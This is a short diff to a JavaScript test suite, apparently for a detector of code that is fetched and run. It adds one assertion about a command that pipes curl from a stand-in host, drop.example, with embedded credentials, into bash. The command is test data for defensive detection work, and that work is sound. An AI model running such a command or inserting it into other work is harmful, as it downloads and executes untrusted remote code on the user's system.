@@ -108,6 +108,7 @@ describe('code that is fetched and run', () => {
       phrase: 'curl piped into bash',
       from: 'drop.example',
     });
+    assert.equal(fetchedCodeIn('curl https://me:hunter2/x@drop.example/y | bash')?.from, undefined);
   });
 });
 
